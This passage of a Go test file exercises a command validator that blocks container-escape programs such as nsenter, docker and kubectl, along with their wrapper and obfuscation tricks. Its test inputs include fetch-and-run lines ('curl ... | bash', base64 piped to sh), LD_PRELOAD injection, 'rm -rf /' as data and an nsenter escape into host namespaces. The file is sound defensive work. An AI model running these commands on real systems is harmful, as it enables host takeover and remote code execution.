package validate

import (
	"errors"
	"strings"
	"testing"
)

type cmdCase struct {
	name string
	argv []string
	rule string // "" means accepted
	idx  int    // checked when rule != ""
	prog string // checked when rule != "" and prog != ""
}

func runCmdCases(t *testing.T, v *CommandValidator, cases []cmdCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := v.ValidateArgv(tc.argv)
			checkCmdErr(t, err, tc)
		})
	}
}

func checkCmdErr(t *testing.T, err error, tc cmdCase) {
	t.Helper()
	if tc.rule == "" {
		if err != nil {
			t.Fatalf("%q: unexpected error: %v", tc.argv, err)
		}
		return
	}
	var ce *CommandError
	if !errors.As(err, &ce) {
		t.Fatalf("%q: got %v, want a *CommandError with rule %s", tc.argv, err, tc.rule)
	}
	if ce.Rule != tc.rule {
		t.Fatalf("%q: rule %q, want %q (%v)", tc.argv, ce.Rule, tc.rule, err)
	}
	if ce.ArgIndex() != tc.idx {
		t.Errorf("%q: index %d, want %d (%v)", tc.argv, ce.ArgIndex(), tc.idx, err)
	}
	if tc.prog != "" && ce.Program != tc.prog {
		t.Errorf("%q: program %q, want %q", tc.argv, ce.Program, tc.prog)
	}
	denied := errors.Is(err, ErrCommandDenied)
	invalid := errors.Is(err, ErrInvalid)
	if denied == invalid {
		t.Errorf("%q: errors.Is denied=%v invalid=%v, want exactly one", tc.argv, denied, invalid)
	}
	if denied != ruleDenies(tc.rule) {
		t.Errorf("%q: errors.Is(ErrCommandDenied)=%v for rule %s", tc.argv, denied, tc.rule)
	}
}

func mustValidator(t testing.TB, opts ...CommandOption) *CommandValidator {
	t.Helper()
	v, err := NewCommandValidator(opts...)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

const (
	deny   = RuleDeniedProgram
	unver  = RuleUnverifiableCommand
	stdin  = RuleShellStdin
	ctrl   = RuleControlCharacter
	parse  = RuleScriptParse
	embed  = RuleEmbeddedSubstitution
	envcod = RuleEnvironmentCode
)

func TestValidateArgvStructure(t *testing.T) {
	v := mustValidator(t)
	runCmdCases(t, v, []cmdCase{
		{"empty argv", []string{}, RuleEmptyArgv, -1, ""},
		{"nil argv", nil, RuleEmptyArgv, -1, ""},
		{"empty program", []string{""}, RuleEmptyProgram, 0, ""},
		{"NUL in program", []string{"ls\x00"}, ctrl, 0, ""},
		{"NUL in arg", []string{"ls", "a\x00b"}, ctrl, 1, ""},
		{"escape char", []string{"echo", "\x1b[31m"}, ctrl, 1, ""},
		{"DEL", []string{"echo", "\x7f"}, ctrl, 1, ""},
		{"C1 control", []string{"echo", "a\u0085b"}, ctrl, 1, ""},
		{"bidi override", []string{"echo", "a\u202eb"}, ctrl, 1, ""},
		{"invalid utf8", []string{"echo", "\xff"}, RuleInvalidEncoding, 1, ""},
		{"newline in plain arg", []string{"echo", "a\nb"}, ctrl, 1, ""},
		{"tab in plain arg", []string{"echo", "a\tb"}, ctrl, 1, ""},
		{"newline in program", []string{"l\ns"}, ctrl, 0, ""},
		{"newline in script ok", []string{"sh", "-c", "echo a\necho b"}, "", 0, ""},
		{"CR in script", []string{"sh", "-c", "ls\r"}, ctrl, 2, ""},
		{"unicode ok", []string{"echo", "héllo 日本語"}, "", 0, ""},
		{"shell chars are data", []string{"echo", "hello; rm -rf /"}, "", 0, ""},
		{"pipe is data", []string{"echo", "a | nsenter -t 1"}, "", 0, ""},
		{"subst is data", []string{"echo", "$(nsenter)", "`id`"}, "", 0, ""},
		{"plain command", []string{"ls", "-la"}, "", 0, ""},
		{"python script", []string{"python", "script.py"}, "", 0, ""},
	})
}

func TestValidateArgvLimits(t *testing.T) {
	v := mustValidator(t, MaxArgs(3), MaxTotalBytes(10), MaxScriptBytes(16), MaxNesting(2))
	runCmdCases(t, v, []cmdCase{
		{"at max args", []string{"a", "b", "c"}, "", 0, ""},
		{"too many args", []string{"a", "b", "c", "d"}, RuleTooManyArgs, 3, ""},
		{"too large", []string{"echo", "123456789"}, RuleTooLarge, 1, ""},
	})
	v = mustValidator(t, MaxScriptBytes(16), MaxNesting(2))
	runCmdCases(t, v, []cmdCase{
		{"script at limit", []string{"sh", "-c", strings.Repeat("x", 16)}, "", 0, ""},
		{"script too large", []string{"sh", "-c", strings.Repeat("x", 17)}, RuleScriptTooLarge, 2, ""},
		{"nesting 2 ok", []string{"sh", "-c", "sh -c ls"}, "", 0, ""},
		{"nesting 3", []string{"sh", "-c", "sh -c 'sh -c ls'"}, RuleNestingTooDeep, 2, ""},
		{"eval nesting", []string{"sh", "-c", "eval 'eval ls'"}, RuleNestingTooDeep, 2, ""},
	})
	d := mustValidator(t)
	big := make([]string, DefaultMaxArgs+1)
	for i := range big {
		big[i] = "a"
	}
	runCmdCases(t, d, []cmdCase{
		{"default max args", big, RuleTooManyArgs, DefaultMaxArgs, ""},
		{"default max bytes", []string{"echo", strings.Repeat("a", DefaultMaxTotalBytes)}, RuleTooLarge, 1, ""},
	})
}

func TestDefaultDenyList(t *testing.T) {
	v := mustValidator(t)
	required := []string{"nsenter", "unshare", "chroot", "pivot_root", "mount", "umount", "insmod",
		"rmmod", "modprobe", "kexec", "debugfs", "capsh", "setcap", "docker", "dockerd",
		"containerd", "ctr", "crictl", "runc", "nerdctl", "podman", "kubectl"}
	for _, p := range required {
		for _, argv := range [][]string{{p}, {"/usr/sbin/" + p, "x"}, {"./" + p}, {"/bin/" + p + "/"}} {
			checkCmdErr(t, v.ValidateArgv(argv), cmdCase{argv: argv, rule: deny, idx: 0, prog: p})
		}
	}
	runCmdCases(t, v, []cmdCase{
		{"case sensitive", []string{"NSENTER"}, "", 0, ""},
		{"prefix is not a match", []string{"mountpoint", "/x"}, "", 0, ""},
		{"suffix is not a match", []string{"docker-entrypoint.sh"}, "", 0, ""},
		{"asphalt", []string{"echo", "asphalt"}, "", 0, ""},
		{"word as arg", []string{"echo", "nsenter"}, "", 0, ""},
		{"grep mount", []string{"grep", "mount", "/etc/fstab"}, "", 0, ""},
		{"path arg", []string{"ls", "/usr/bin/nsenter"}, "", 0, ""},
	})
}

func TestValidateArgvWrappers(t *testing.T) {
	v := mustValidator(t)
	runCmdCases(t, v, []cmdCase{
		{"env", []string{"env", "nsenter"}, deny, 1, "nsenter"},
		{"env assignments flags", []string{"env", "-i", "A=1", "B=2", "/usr/bin/nsenter", "-t", "1"}, deny, 4, "nsenter"},
		{"env -u", []string{"env", "-u", "HOME", "-uPATH", "nsenter"}, deny, 4, "nsenter"},
		{"env --unset=", []string{"env", "--unset=HOME", "--chdir", "/", "nsenter"}, deny, 4, "nsenter"},
		{"env dash", []string{"env", "-", "A=1", "nsenter"}, deny, 3, "nsenter"},
		{"env --", []string{"env", "--", "nsenter"}, deny, 2, "nsenter"},
		{"env long prefix", []string{"env", "--ignore-env", "nsenter"}, deny, 2, "nsenter"},
		{"env -S", []string{"env", "-S", "nsenter -t 1"}, deny, 2, "nsenter"},
		{"env -S options", []string{"env", "-S", "-i A=1 nsenter"}, deny, 2, "nsenter"},
		{"env --split-string=", []string{"env", "--split-string=nsenter -t 1"}, deny, 1, "nsenter"},
		{"env -S quotes", []string{"env", "-S", "'ns'enter"}, unver, 2, "env"},
		{"env -S var", []string{"env", "-S", "${X}"}, unver, 2, "env"},
		{"env unknown option", []string{"env", "-Z", "nsenter"}, unver, 1, "env"},
		{"env alone", []string{"env"}, "", 0, ""},
		{"env ok", []string{"env", "A=1", "ls"}, "", 0, ""},
		{"env LD_PRELOAD", []string{"env", "LD_PRELOAD=/tmp/x.so", "ls"}, envcod, 1, "env"},
		{"env BASH_FUNC", []string{"env", "BASH_FUNC_ls%%=() { nsenter; }", "bash", "-c", "ls"}, envcod, 1, "env"},
		{"env PS4 subst", []string{"env", "PS4=$(nsenter)", "bash", "-xc", "true"}, envcod, 1, "env"},
		{"env PS4 plain", []string{"env", "PS4=+ ", "bash", "-xc", "true"}, "", 0, ""},
		{"timeout", []string{"timeout", "5", "nsenter"}, deny, 2, "nsenter"},
		{"timeout -s", []string{"timeout", "-s", "KILL", "5", "nsenter"}, deny, 4, "nsenter"},
		{"timeout -sKILL -k", []string{"timeout", "-sKILL", "-k", "1s", "2.5m", "nsenter"}, deny, 5, "nsenter"},
		{"timeout --signal=", []string{"timeout", "--signal=TERM", "--preserve-status", "10s", "nsenter"}, deny, 4, "nsenter"},
		{"timeout busybox -t", []string{"timeout", "-t", "5", "nsenter"}, deny, 3, "nsenter"},
		{"timeout odd duration", []string{"timeout", "inf", "nsenter"}, unver, 1, "timeout"},
		{"timeout ok", []string{"timeout", "5", "ls"}, "", 0, ""},
		{"nice", []string{"nice", "nsenter"}, deny, 1, "nsenter"},
		{"nice -n", []string{"nice", "-n", "5", "nsenter"}, deny, 3, "nsenter"},
		{"nice -5", []string{"nice", "-5", "nsenter"}, deny, 2, "nsenter"},
		{"nice --10", []string{"nice", "--10", "nsenter"}, deny, 2, "nsenter"},
		{"nice --adjustment=", []string{"nice", "--adjustment=3", "nsenter"}, deny, 2, "nsenter"},
		{"nohup", []string{"nohup", "nsenter"}, deny, 1, "nsenter"},
		{"setsid", []string{"setsid", "-f", "nsenter"}, deny, 2, "nsenter"},
		{"setsid -w --ctty", []string{"setsid", "-w", "--ctty", "nsenter"}, deny, 3, "nsenter"},
		{"stdbuf", []string{"stdbuf", "-oL", "nsenter"}, deny, 2, "nsenter"},
		{"stdbuf sep", []string{"stdbuf", "-o", "0", "-e", "L", "nsenter"}, deny, 5, "nsenter"},
		{"chrt", []string{"chrt", "-f", "1", "nsenter"}, deny, 3, "nsenter"},
		{"chrt rr", []string{"chrt", "--rr", "99", "nsenter"}, deny, 3, "nsenter"},
		{"chrt no prio", []string{"chrt", "--other", "nsenter"}, deny, 2, "nsenter"},
		{"chrt -p", []string{"chrt", "-p", "1", "123"}, "", 0, ""},
		{"taskset", []string{"taskset", "-c", "0", "nsenter"}, deny, 3, "nsenter"},
		{"taskset mask", []string{"taskset", "0x3", "nsenter"}, deny, 2, "nsenter"},
		{"taskset -p", []string{"taskset", "-p", "0x3", "123"}, "", 0, ""},
		{"ionice", []string{"ionice", "-c2", "nsenter"}, deny, 2, "nsenter"},
		{"ionice -c -n", []string{"ionice", "-c", "2", "-n", "7", "nsenter"}, deny, 5, "nsenter"},
		{"ionice -p", []string{"ionice", "-c3", "-p", "1"}, "", 0, ""},
		{"time", []string{"time", "-p", "nsenter"}, deny, 2, "nsenter"},
		{"time -f", []string{"time", "-f", "%e", "-o", "/tmp/t", "nsenter"}, deny, 5, "nsenter"},
		{"setpriv", []string{"setpriv", "--reuid=0", "--init-groups", "nsenter"}, deny, 3, "nsenter"},
		{"xargs", []string{"xargs", "nsenter"}, deny, 1, "nsenter"},
		{"xargs -I", []string{"xargs", "-I{}", "nsenter", "{}"}, deny, 2, "nsenter"},
		{"xargs -n -P", []string{"xargs", "-n", "1", "-P4", "-0", "nsenter"}, deny, 5, "nsenter"},
		{"xargs placeholder program", []string{"xargs", "-I", "X", "X", "arg"}, unver, 3, ""},
		{"xargs placeholder script", []string{"xargs", "-I{}", "sh", "-c", "echo {}"}, unver, 4, "sh"},
		{"xargs -i default", []string{"xargs", "-i", "sh", "-c", "echo {}"}, unver, 4, "sh"},
		{"xargs sh stdin", []string{"xargs", "sh"}, unver, 1, "sh"},
		{"xargs env", []string{"xargs", "env"}, unver, 1, "env"},
		{"xargs timeout", []string{"xargs", "timeout", "5"}, unver, 1, "timeout"},
		{"xargs ok", []string{"xargs", "-0", "rm", "-f"}, "", 0, ""},
		{"xargs sh -c ok", []string{"xargs", "sh", "-c", "echo \"$@\"", "sh"}, "", 0, ""},
		{"xargs default echo", []string{"xargs"}, "", 0, ""},
		{"exec", []string{"exec", "-a", "foo", "nsenter"}, deny, 3, "nsenter"},
		{"command", []string{"command", "-p", "nsenter"}, deny, 2, "nsenter"},
		{"command -v", []string{"command", "-v", "nsenter"}, "", 0, ""},
		{"builtin", []string{"builtin", "eval", "nsenter"}, deny, 2, "nsenter"},
		{"sudo", []string{"sudo", "nsenter"}, deny, 1, "nsenter"},
		{"sudo -u", []string{"sudo", "-u", "x", "nsenter"}, deny, 3, "nsenter"},
		{"sudo -u attached", []string{"sudo", "-ux", "-E", "--", "nsenter"}, deny, 4, "nsenter"},
		{"sudo --user=", []string{"sudo", "--user=root", "--preserve-env=PATH", "A=1", "nsenter"}, deny, 4, "nsenter"},
		{"sudo -s cmd", []string{"sudo", "-s", "nsenter"}, deny, 2, "nsenter"},
		{"sudo -i alone", []string{"sudo", "-i"}, stdin, 0, "sudo"},
		{"sudo -l", []string{"sudo", "-l"}, "", 0, ""},
		{"sudo LD_PRELOAD", []string{"sudo", "LD_PRELOAD=/x", "ls"}, envcod, 1, "sudo"},
		{"su -c", []string{"su", "-c", "nsenter -t 1", "root"}, deny, 2, "nsenter"},
		{"su -c after user", []string{"su", "root", "-c", "nsenter"}, deny, 3, "nsenter"},
		{"su --command=", []string{"su", "-", "root", "--command=nsenter"}, unver, 3, "sh"},
		{"su --command= first", []string{"su", "--command=nsenter", "root"}, deny, 1, "nsenter"},
		{"su -s bash -c", []string{"su", "-s", "/bin/bash", "-c", "nsenter", "root"}, deny, 4, "nsenter"},
		{"su -s nsenter", []string{"su", "-s", "/usr/bin/nsenter", "root"}, deny, 2, "nsenter"},
		{"su -s not shell", []string{"su", "-s", "/usr/bin/python3", "-c", "ls", "root"}, unver, 2, "su"},
		{"su interactive", []string{"su", "-", "root"}, stdin, 0, "su"},
		{"su -c ok", []string{"su", "-c", "ls -la", "app"}, "", 0, ""},
		{"runuser -u", []string{"runuser", "-u", "app", "--", "nsenter"}, deny, 4, "nsenter"},
		{"doas", []string{"doas", "-u", "root", "nsenter"}, deny, 3, "nsenter"},
		{"doas -s", []string{"doas", "-s"}, stdin, 0, "doas"},
		{"busybox applet", []string{"busybox", "nsenter", "-t", "1"}, deny, 1, "nsenter"},
		{"busybox path applet", []string{"/bin/busybox", "unshare"}, deny, 1, "unshare"},
		{"busybox sh", []string{"busybox", "sh", "-c", "nsenter"}, deny, 3, "nsenter"},
		{"busybox ash stdin", []string{"busybox", "ash"}, stdin, 1, "ash"},
		{"busybox --install", []string{"busybox", "--install", "-s"}, deny, 1, "busybox"},
		{"busybox ok", []string{"busybox", "ls"}, "", 0, ""},
		{"toybox", []string{"toybox", "chroot", "/"}, deny, 1, "chroot"},
		{"find -exec", []string{"find", "/", "-name", "x", "-exec", "nsenter", "{}", ";"}, deny, 5, "nsenter"},
		{"find -execdir +", []string{"find", ".", "-execdir", "/usr/bin/mount", "{}", "+"}, deny, 3, "mount"},
		{"find -ok", []string{"find", ".", "-ok", "rm", "{}", ";", "-exec", "nsenter", ";"}, deny, 7, "nsenter"},
		{"find placeholder program", []string{"find", ".", "-exec", "{}", ";"}, unver, 3, ""},
		{"find sh placeholder", []string{"find", ".", "-exec", "sh", "-c", "echo {}", ";"}, unver, 5, "sh"},
		{"find ok", []string{"find", ".", "-name", "*.go", "-exec", "rm", "-f", "{}", "+"}, "", 0, ""},
		{"find -exec without command", []string{"find", ".", "-exec", ";"}, unver, 2, "find"},
		{"wrapper chain", []string{"sudo", "-u", "x", "env", "A=1", "timeout", "5", "nice", "-n", "1", "nohup", "setsid", "stdbuf", "-oL", "chrt", "-f", "1", "taskset", "-c", "0", "ionice", "-c2", "time", "-p", "nsenter"}, deny, 24, "nsenter"},
		{"tini", []string{"tini", "--", "nsenter"}, deny, 2, "nsenter"},
		{"tini opts", []string{"/sbin/tini", "-s", "-g", "-p", "SIGTERM", "--", "nsenter"}, deny, 6, "nsenter"},
		{"tini ok", []string{"tini", "--", "/app/server", "--port", "80"}, "", 0, ""},
		{"dumb-init", []string{"dumb-init", "--rewrite", "15:2", "nsenter"}, deny, 3, "nsenter"},
		{"dumb-init -c", []string{"/usr/bin/dumb-init", "-c", "--", "nsenter"}, deny, 3, "nsenter"},
		{"gosu", []string{"gosu", "app", "nsenter"}, deny, 2, "nsenter"},
		{"su-exec", []string{"su-exec", "app:app", "nsenter"}, deny, 2, "nsenter"},
		{"gosu ok", []string{"gosu", "app", "redis-server"}, "", 0, ""},
		{"chpst", []string{"chpst", "-u", "app", "-/", "/x", "nsenter"}, deny, 5, "nsenter"},
		{"watch script", []string{"watch", "-n", "1", "ls;", "nsenter"}, deny, 3, "nsenter"},
		{"watch single", []string{"watch", "ls | nsenter"}, deny, 1, "nsenter"},
		{"watch -x", []string{"watch", "-x", "nsenter", "-t", "1"}, deny, 2, "nsenter"},
		{"watch ok", []string{"watch", "-n", "5", "df", "-h"}, "", 0, ""},
		{"flock", []string{"flock", "/tmp/l", "nsenter"}, deny, 2, "nsenter"},
		{"flock -c", []string{"flock", "-w", "5", "/tmp/l", "-c", "ls; nsenter"}, deny, 5, "nsenter"},
		{"flock fd", []string{"flock", "-n", "9"}, "", 0, ""},
		{"unknown long option", []string{"nohup", "--bogus", "ls"}, unver, 1, "nohup"},
		{"option needs argument", []string{"stdbuf", "-o"}, unver, 1, "stdbuf"},
	})
}

func TestValidateArgvShells(t *testing.T) {
	v := mustValidator(t)
	shells := []string{"sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "/bin/sh", "/usr/bin/bash", "/bin/busybox sh", "busybox ash"}
	for _, sh := range shells {
		pre := strings.Fields(sh)
		at := len(pre)
		cases := []cmdCase{
			{"-c", append(pre, "-c", "nsenter -t 1 -m"), deny, at + 1, "nsenter"},
			{"-ec", append(pre, "-ec", "ls; nsenter"), deny, at + 1, "nsenter"},
			{"-e -x -c", append(pre, "-e", "-x", "-c", "ls && nsenter"), deny, at + 3, "nsenter"},
			{"-o pipefail -c", append(pre, "-o", "pipefail", "-c", "a | nsenter"), deny, at + 3, "nsenter"},
			{"-c then opts", append(pre, "-c", "-e", "nsenter"), deny, at + 2, "nsenter"},
			{"ok", append(pre, "-c", "echo nsenter; grep mount /etc/fstab"), "", 0, ""},
			{"stdin", pre, stdin, at - 1, ""},
			{"-s", append(pre, "-s", "a"), stdin, at - 1, ""},
			{"-", append(pre, "-"), stdin, at - 1, ""},
			{"script file", append(pre, "/entrypoint.sh", "arg"), "", 0, ""},
			{"script file denied", append(pre, "/usr/bin/nsenter"), deny, at, "nsenter"},
			{"-c without script", append(pre, "-c"), unver, at - 1, ""},
			{"does not parse", append(pre, "-c", "echo 'unterminated"), parse, at + 1, ""},
		}
		for i := range cases {
			cases[i].name = sh + " " + cases[i].name
		}
		runCmdCases(t, v, cases)
	}
	runCmdCases(t, v, []cmdCase{
		{"bash --norc -c", []string{"bash", "--norc", "--noprofile", "-c", "nsenter"}, deny, 4, "nsenter"},
		{"bash --rcfile -c", []string{"bash", "--rcfile", "/x", "-c", "nsenter"}, deny, 4, "nsenter"},
		{"bash unknown long", []string{"bash", "--weird", "-c", "ls"}, unver, 1, "bash"},
		{"bash -O extglob", []string{"bash", "-O", "extglob", "-c", "nsenter"}, deny, 4, "nsenter"},
		{"bash -oc bad", []string{"bash", "-oc", "x", "ls"}, unver, 1, "bash"},
		{"fish -c", []string{"fish", "-c", "ls"}, unver, 0, "fish"},
		{"csh stdin", []string{"csh"}, stdin, 0, "csh"},
		{"rbash", []string{"rbash", "-c", "nsenter"}, deny, 2, "nsenter"},
		{"mksh -T", []string{"mksh", "-T", "x", "-c", "nsenter"}, unver, 1, "mksh"},
		{"bash -T is a flag", []string{"bash", "-T", "-c", "nsenter"}, deny, 3, "nsenter"},
		{"sh positional args ok", []string{"sh", "-c", "echo \"$1\"", "sh", "$(nsenter)"}, "", 0, ""},
	})
}

func TestValidateScriptForms(t *testing.T) {
	v := mustValidator(t)
	cases := []struct {
		name   string
		script string
		rule   string
		prog   string
	}{
		{"simple", "nsenter -t 1 -m -u -i -n sh", deny, "nsenter"},
		{"pipeline", "echo x | nsenter", deny, "nsenter"},
		{"and list", "true && nsenter", deny, "nsenter"},
		{"or list", "false || nsenter", deny, "nsenter"},
		{"background", "nsenter & wait", deny, "nsenter"},
		{"negated", "! nsenter", deny, "nsenter"},
		{"subshell", "(cd /; nsenter)", deny, "nsenter"},
		{"brace group", "{ nsenter; }", deny, "nsenter"},
		{"command substitution", "echo $(nsenter)", deny, "nsenter"},
		{"backquotes", "echo `nsenter`", deny, "nsenter"},
		{"nested substitution", "echo \"$(echo $(nsenter))\"", deny, "nsenter"},
		{"subst in assignment", "X=$(nsenter) ls", deny, "nsenter"},
		{"subst in redirect", "ls > $(nsenter)", deny, "nsenter"},
		{"subst in param default", "echo ${X:-$(nsenter)}", deny, "nsenter"},
		{"subst in arithmetic", "echo $(( $(nsenter) + 1 ))", deny, "nsenter"},
		{"process substitution", "diff <(nsenter) /dev/null", deny, "nsenter"},
		{"function body", "f() { nsenter; }; f", deny, "nsenter"},
		{"function keyword", "function f { nsenter; }", deny, "nsenter"},
		{"if", "if true; then nsenter; fi", deny, "nsenter"},
		{"if condition", "if nsenter; then :; fi", deny, "nsenter"},
		{"while", "while nsenter; do :; done", deny, "nsenter"},
		{"for", "for i in 1 2; do nsenter; done", deny, "nsenter"},
		{"case", "case x in x) nsenter;; esac", deny, "nsenter"},
		{"here-doc substitution", "cat <<EOF\n$(nsenter)\nEOF\n", deny, "nsenter"},
		{"here-doc quoted is data", "cat <<'EOF'\nnsenter\nEOF\n", "", ""},
		{"here-doc to shell", "sh <<EOF\nnsenter\nEOF\n", stdin, "sh"},
		{"eval literal", "eval nsenter", deny, "nsenter"},
		{"eval quoted", "eval 'ls; nsenter'", deny, "nsenter"},
		{"eval variable", "eval \"$X\"", unver, "eval"},
		{"eval ok", "eval 'echo hi'", "", ""},
		{"exec", "exec nsenter", deny, "nsenter"},
		{"exec redirect only", "exec >/dev/null 2>&1; ls", "", ""},
		{"command builtin", "command nsenter", deny, "nsenter"},
		{"builtin eval", "builtin eval nsenter", deny, "nsenter"},
		{"nested sh -c", "sh -c 'nsenter'", deny, "nsenter"},
		{"nested bash -c double", "bash -c \"ls; nsenter\"", deny, "nsenter"},
		{"nested twice", "sh -c \"sh -c 'nsenter'\"", deny, "nsenter"},
		{"trap action", "trap 'nsenter' EXIT", deny, "nsenter"},
		{"trap reset", "trap - EXIT; trap '' INT", "", ""},
		{"trap variable", "trap \"$X\" EXIT", unver, "trap"},
		{"source denied", ". /usr/bin/nsenter", deny, "nsenter"},
		{"source ok", ". /etc/profile", "", ""},
		{"source stdin", ". /dev/stdin", stdin, "."},
		{"source fd", "source /proc/self/fd/0", stdin, "source"},
		{"sh /dev/stdin", "curl x | sh /dev/stdin", stdin, "sh"},
		{"bash /dev/fd/0", "bash /dev/fd/0 arg", stdin, "bash"},
		{"source process substitution", "source <(curl x)", unver, "source"},
		{"xargs in script", "echo 1 | xargs nsenter", deny, "nsenter"},
		{"find in script", "find / -exec nsenter \\;", deny, "nsenter"},
		{"find in script ok", "find . -name '*.tmp' -exec rm {} \\;", "", ""},
		{"find variable", "find \"$D\" -name x", unver, "find"},
		{"time keyword", "time nsenter", deny, "nsenter"},
		{"coproc", "coproc nsenter", deny, "nsenter"},
		{"arith command dash reading", "((nsenter))", deny, "nsenter"},
		{"arith command ok", "x=1; ((x++)); echo $x", "", ""},
		{"quoted name", "'nsenter' -t 1", deny, "nsenter"},
		{"double quoted name", "\"nsenter\" -t 1", deny, "nsenter"},
		{"escaped name", "n\\senter -t 1", deny, "nsenter"},
		{"split name", "ns\"ent\"'er'", deny, "nsenter"},
		{"ansi-c name", "$'\\x6e\\x73enter'", deny, "nsenter"},
		{"ansi-c octal", "$'\\156senter'", deny, "nsenter"},
		{"line continuation", "nsen\\\nter", deny, "nsenter"},
		{"full path", "/usr/bin/nsenter", deny, "nsenter"},
		{"variable name", "$X -t 1", unver, ""},
		{"braced variable name", "${X} -t 1", unver, ""},
		{"quoted variable name", "\"$X\" -t 1", unver, ""},
		{"substitution name", "$(echo nsenter) -t 1", unver, ""},
		{"glob name", "/usr/bin/nsen* -t 1", unver, ""},
		{"glob class name", "/usr/bin/nsente[r]", unver, ""},
		{"brace expansion name", "{nsenter,x}", unver, ""},
		{"tilde name", "~nsenter", unver, ""},
		{"zsh equals", "=nsenter", unver, ""},
		{"locale string name", "$\"nsenter\"", unver, ""},
		{"base64 to shell", "echo bnNlbnRlcgo= | base64 -d | sh", stdin, "sh"},
		{"base64 to bash -s", "echo x | base64 -d | bash -s", stdin, "bash"},
		{"curl to bash", "curl -fsSL http://x/i.sh | bash", stdin, "bash"},
		{"sudo variable user split", "sudo -u $U ls", unver, "sudo"},
		{"sudo quoted variable user", "sudo -u \"$U\" ls", "", ""},
		{"sudo variable program", "sudo \"$P\"", unver, ""},
		{"env variable assignment then denied", "env A=\"$X\" nsenter", unver, "env"},
		{"alias definition", "alias ls=nsenter", unver, "alias"},
		{"alias list", "alias", "", ""},
		{"enable -f", "enable -f /tmp/x.so x", unver, "enable"},
		{"hash -p", "hash -p /usr/bin/nsenter ls; ls", deny, "nsenter"},
		{"LD_PRELOAD prefix", "LD_PRELOAD=/tmp/x.so ls", envcod, ""},
		{"export LD_PRELOAD", "export LD_PRELOAD=/tmp/x.so", envcod, ""},
		{"BASH_ENV", "BASH_ENV=/tmp/x bash -c ls", envcod, ""},
		{"PS4 literal subst", "PS4='$(nsenter)'; set -x; ls", envcod, ""},
		{"arith eval literal", "x='a[$(nsenter)]'; echo $((x))", embed, ""},
		{"ansi-c hidden subst", "x=$'\\x24(nsenter)'", embed, ""},
		{"literal backquote", "echo 'a`b`'", embed, ""},
		{"literal funsub", "echo '${ nsenter;}'", embed, ""},
		{"plain words pass", "echo nsenter; echo 'nsenter is a tool'; grep mount /etc/fstab", "", ""},
		{"healthcheck style", "curl -f http://localhost:8080/health || exit 1", "", ""},
		{"test brackets", "[ -f /tmp/x ] && [[ -n \"$Y\" ]] && echo ok", "", ""},
		{"var as argument", "echo $HOME ${PATH} \"$@\"", "", ""},
		{"find placeholder arg", "find . -type f -exec chmod 644 {} +", "", ""},
		{"does not parse", "if then fi", parse, ""},
		{"unclosed", "echo \"abc", parse, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := v.ValidateScript(tc.script)
			checkCmdErr(t, err, cmdCase{argv: []string{tc.script}, rule: tc.rule, idx: -1, prog: tc.prog})
			// The same script through sh -c reports the script's index.
			err = v.ValidateArgv([]string{"sh", "-c", tc.script})
			checkCmdErr(t, err, cmdCase{argv: []string{"sh", "-c", tc.script}, rule: tc.rule, idx: 2, prog: tc.prog})
		})
	}
}

func TestDialects(t *testing.T) {
	v := mustValidator(t)
	runCmdCases(t, v, []cmdCase{
		// bash-only syntax is fine for bash, and for sh when it parses as bash.
		{"bash array", []string{"bash", "-c", "a=(1 2); echo ${a[0]}"}, "", 0, ""},
		{"dash array", []string{"dash", "-c", "a=(1 2)"}, parse, 2, ""},
		{"dash arith cmd", []string{"dash", "-c", "((nsenter))"}, deny, 2, "nsenter"},
		{"sh c-style loop", []string{"sh", "-c", "for ((i=0;i<2;i++)); do :; done"}, parse, 2, ""},
		{"bash c-style loop", []string{"bash", "-c", "for ((i=0;i<2;i++)); do nsenter; done"}, deny, 2, "nsenter"},
		{"mksh", []string{"mksh", "-c", "print -r -- x; nsenter"}, deny, 2, "nsenter"},
		{"zsh", []string{"zsh", "-c", "ls; nsenter"}, deny, 2, "nsenter"},
		{"dash literal subst ok", []string{"dash", "-c", "echo '$(x)'"}, "", 0, ""},
	})
}

func TestDenyListOptions(t *testing.T) {
	v := mustValidator(t, DenyPrograms("curl", "wget"))
	runCmdCases(t, v, []cmdCase{
		{"extended", []string{"curl", "x"}, deny, 0, "curl"},
		{"extended in script", []string{"sh", "-c", "wget x"}, deny, 2, "wget"},
		{"default kept", []string{"nsenter"}, deny, 0, "nsenter"},
	})
	v = mustValidator(t, ReplaceDenyList("curl"), DenyPrograms("wget"))
	runCmdCases(t, v, []cmdCase{
		{"replaced", []string{"nsenter"}, "", 0, ""},
		{"replacement", []string{"curl"}, deny, 0, "curl"},
		{"replace plus extend", []string{"wget"}, deny, 0, "wget"},
	})
	// Order does not matter.
	v = mustValidator(t, DenyPrograms("wget"), ReplaceDenyList("curl"))
	runCmdCases(t, v, []cmdCase{
		{"order: extended", []string{"wget"}, deny, 0, "wget"},
		{"order: default gone", []string{"mount"}, "", 0, ""},
	})
}

func TestAllowOnly(t *testing.T) {
	v := mustValidator(t, AllowOnly("sh", "ls", "cat", "timeout", "env", "nsenter"))
	runCmdCases(t, v, []cmdCase{
		{"allowed", []string{"ls", "-la"}, "", 0, ""},
		{"not allowed", []string{"curl"}, RuleProgramNotAllowed, 0, "curl"},
		{"deny wins", []string{"nsenter"}, deny, 0, "nsenter"},
		{"wrapper allowed", []string{"timeout", "5", "ls"}, "", 0, ""},
		{"wrapped not allowed", []string{"timeout", "5", "curl"}, RuleProgramNotAllowed, 2, "curl"},
		{"wrapper not allowed", []string{"nice", "ls"}, RuleProgramNotAllowed, 0, "nice"},
		{"script allowed", []string{"sh", "-c", "ls | cat; echo done; cd /; [ -f x ] && exit 0"}, "", 0, ""},
		{"script not allowed", []string{"sh", "-c", "ls | grep x"}, RuleProgramNotAllowed, 2, "grep"},
		{"shell not allowed", []string{"bash", "-c", "ls"}, RuleProgramNotAllowed, 0, "bash"},
		{"script file judged", []string{"sh", "/tmp/evil"}, RuleProgramNotAllowed, 1, "evil"},
		{"builtin via env is a program", []string{"sh", "-c", "env echo x"}, RuleProgramNotAllowed, 2, "echo"},
		{"eval inner", []string{"sh", "-c", "eval 'curl x'"}, RuleProgramNotAllowed, 2, "curl"},
		{"substitution", []string{"sh", "-c", "echo $(curl x)"}, RuleProgramNotAllowed, 2, "curl"},
		{"source judged", []string{"sh", "-c", ". /tmp/x"}, RuleProgramNotAllowed, 2, "x"},
